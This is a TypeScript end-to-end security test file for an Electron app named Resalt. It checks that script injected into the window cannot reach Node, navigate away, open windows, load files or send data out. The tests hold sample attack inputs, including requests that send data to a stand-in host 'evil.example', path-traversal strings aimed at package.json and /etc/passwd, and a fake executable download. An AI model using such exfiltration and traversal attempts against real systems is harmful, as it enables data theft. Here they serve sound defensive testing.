import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type LaunchedApp, launchApp } from '../e2e/electron-app.ts';
import { electronDist } from '../e2e/electron-runtime.ts';

/**
 * The attack. Text from a hostile site, or a fault in a library of the screens, has become script in the window. It
 * wants the operator's machine (node, files, other programs), a way to send out what the window knows, or a page of its
 * own that is taken for Resalt. It finds none: what it can do is what a person at this window can do.
 */
describe.skipIf(electronDist() === null)('script in the window', () => {
  let dataDir: string;
  let launched: LaunchedApp;

  beforeAll(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'resalt-electron-'));
    launched = await launchApp({ dataDir });
    await launched.window.waitForLoadState('load');
    await launched.window.evaluate(() => Object.assign(window, { mark: 'same page' }));
  }, 120_000);
  afterAll(async () => {
    await launched?.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  const atHome = async () => {
    expect(launched.window.url()).toMatch(/^https:\/\/resalt\.invalid\//);
    expect(await launched.window.evaluate(() => 'mark' in window && window.mark)).toBe('same page');
  };

  test('has no node and no electron', async () => {
    const found = await launched.window.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron', 'setImmediate'].filter(
        (name) => name in window,
      ),
    );
    expect(found).toEqual([]);
  });

  test('runs in a sandboxed, isolated window', async () => {
    const preferences = await launched.app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map((window) =>
        (window.webContents as unknown as { getLastWebPreferences(): object }).getLastWebPreferences(),
      ),
    );
    const strict = {
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      webviewTag: false,
    };
    expect(preferences).toEqual([expect.objectContaining(strict)]);
  });

  test.each(['https://evil.example/', 'http://127.0.0.1:9/', 'file:///etc/passwd', 'data:text/html,evil', 'app://x/'])(
    'cannot lead the window away to %s',
    async (url) => {
      const settled = launched.app.evaluate(
        ({ BrowserWindow }) =>
          new Promise((resolve) => {
            const contents = BrowserWindow.getAllWindows()[0]?.webContents;
            contents?.once('will-frame-navigate', () => setImmediate(resolve));
            contents?.once('console-message', () => setImmediate(resolve));
          }),
      );
      await launched.window.evaluate((target) => {
        location.href = target;
        console.error('tried');
      }, url);
      await settled;
      await atHome();
    },
  );

  test('cannot open another window', async () => {
    for (const url of ['https://evil.example/', 'about:blank', '/', 'file:///etc/passwd']) {
      expect(await launched.window.evaluate((target) => window.open(target) === null, url)).toBe(true);
    }
    expect(await launched.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
    await atHome();
  });

  test('runs nothing inline and reaches nobody: the policy refuses', async () => {
    const violated = await launched.window.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      const put = (tag: string, fields: object) =>
        document.body.append(Object.assign(document.createElement(tag), fields));
      put('script', { textContent: 'window.mark = "inline"' });
      put('script', { src: 'https://evil.example/x.js' });
      put('img', { src: 'https://evil.example/leak.png' });
      put('iframe', { src: 'https://evil.example/' });
      put('object', { data: 'https://evil.example/' });
      await fetch('https://evil.example/leak').catch(() => undefined);
      await new Promise((resolve) => {
        new WebSocket('wss://evil.example/leak').addEventListener('error', resolve);
      });
      navigator.sendBeacon('https://evil.example/leak', 'x');
      const complete = () =>
        ['script-src-elem', 'img-src', 'frame-src', 'object-src'].every((name) => seen.includes(name));
      while (!complete()) await new Promise((resolve) => requestAnimationFrame(resolve));
      return [...new Set(seen)].sort();
    });
    expect(violated).toEqual(['connect-src', 'frame-src', 'img-src', 'object-src', 'script-src-elem']);
    await atHome();
  });

  test('and behind the policy main refuses too: no request leaves the machine', async () => {
    const replies = await launched.app.evaluate(({ session }) =>
      Promise.all(
        ['https://evil.example/', 'http://evil.example/', 'http://127.0.0.1:9/', 'file:///etc/passwd'].map((url) =>
          session.defaultSession.fetch(url).then(
            ({ status }) => status,
            (error: Error) => error.message,
          ),
        ),
      ),
    );
    expect(replies).toEqual([404, 'net::ERR_BLOCKED_BY_CLIENT', 'net::ERR_BLOCKED_BY_CLIENT', 404]);
  });

  test('finds no file but the screens', async () => {
    const statuses = await launched.window.evaluate(() =>
      Promise.all(
        [
          '/',
          '/../package.json',
          '/..%2f..%2fpackage.json',
          '/%2e%2e/main/main.js',
          '/main/main.js',
          '//etc/passwd',
        ].map((path) => fetch(location.origin + path).then(({ status }) => status)),
      ),
    );
    expect(statuses).toEqual([200, 404, 404, 404, 404, 404]);
  });

  test('gets no permission', async () => {
    const states = await launched.window.evaluate(async () => {
      const clipboard = await navigator.clipboard.readText().catch((error: Error) => error.name);
      const place = await new Promise((resolve) => {
        navigator.geolocation.getCurrentPosition(resolve, (error) => resolve(error.code));
      });
      return [await Notification.requestPermission(), clipboard, place];
    });
    expect(states).toEqual(['denied', 'NotAllowedError', 1]);
  });

  test('downloads only what the window made itself', async () => {
    const refused = await launched.app.evaluate(({ BrowserWindow, session }) => {
      const answered = new Promise((resolve) => {
        session.defaultSession.on('will-download', (event) => resolve(event.defaultPrevented));
      });
      BrowserWindow.getAllWindows()[0]?.webContents.downloadURL('data:application/x-msdownload,evil');
      return answered;
    });
    expect(refused).toBe(true);
  });

  test('the window’s own page reaches the engine by a port; a message that is none closes it', async () => {
    const answers = await launched.window.evaluate(async () => {
      const { port1, port2 } = new MessageChannel();
      window.postMessage('resalt:engine', location.origin, [port2]);
      const answered = new Promise((resolve) => {
        port1.onmessage = (event) => resolve(JSON.parse(event.data));
      });
      port1.postMessage(JSON.stringify({ kind: 'query', id: 1, path: 'app.info', input: {} }));
      const first = await answered;
      const closed = new Promise((resolve) => port1.addEventListener('close', () => resolve('closed')));
      port1.postMessage({ kind: 'query', id: 2, path: 'app.info', input: {} });
      return [first, await closed];
    });
    expect(answers).toEqual([
      { kind: 'result', id: 1, data: expect.objectContaining({ version: expect.anything() }) },
      'closed',
    ]);
  });

  test('a frame in the window reaches no engine', async () => {
    await launched.window.evaluate(() => {
      document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>foreign', name: 'foreign' }));
    });
    await launched.window.waitForFunction(() => frames.length > 0);
    const frame = launched.window.frame({ name: 'foreign' });
    await frame?.evaluate(() => {
      const { port1, port2 } = new MessageChannel();
      Object.assign(window, { heard: 0 });
      port1.onmessage = () => Object.assign(window, { heard: 1 });
      port1.postMessage(JSON.stringify({ kind: 'query', id: 1, path: 'app.info', input: {} }));
      parent.postMessage('resalt:engine', '*', [port2]);
    });
    await ask(launched);
    expect(await frame?.evaluate(() => 'heard' in window && window.heard)).toBe(0);
  });

  test('another page reaches no engine, even with our preload: main looks at who sends', async () => {
    const heard = await launched.app.evaluate(async ({ app, BrowserWindow }) => {
      const preload = `${app.getAppPath()}/out/preload/preload.cjs`;
      const foreign = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } });
      await foreign.loadURL('data:text/html,foreign');
      const result = await foreign.webContents.executeJavaScript(`new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = () => resolve('answered');
        port1.addEventListener('close', () => resolve('closed'));
        port1.postMessage(JSON.stringify({ kind: 'query', id: 1, path: 'app.info', input: {} }));
        window.postMessage('resalt:engine', '*', [port2]);
      })`);
      foreign.destroy();
      return result;
    });
    expect(heard).toBe('closed');
  });

  test('a link from outside shows a view and loads nothing; a second start comes to this window', async () => {
    const start = (link: string) =>
      launched.app.evaluate(({ app }, given) => {
        app.emit('second-instance', {}, ['electron', '.', given]);
      }, link);
    await start('resalt://site/acme%20shop');
    await launched.window.waitForURL(/#\/site\/acme%20shop/);
    await start('resalt://vault/lock');
    await start('resalt://site/../../evil');
    await ask(launched);
    expect(launched.window.url()).toContain('#/site/acme%20shop');
    await atHome();
  });
});

/** One question of the window's own, answered: what was sent before it has had its time. */
function ask({ window: page }: LaunchedApp): Promise<unknown> {
  return page.evaluate(
    () =>
      new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = resolve;
        port1.postMessage(JSON.stringify({ kind: 'query', id: 1, path: 'app.info', input: {} }));
        window.postMessage('resalt:engine', location.origin, [port2]);
      }),
  );
}
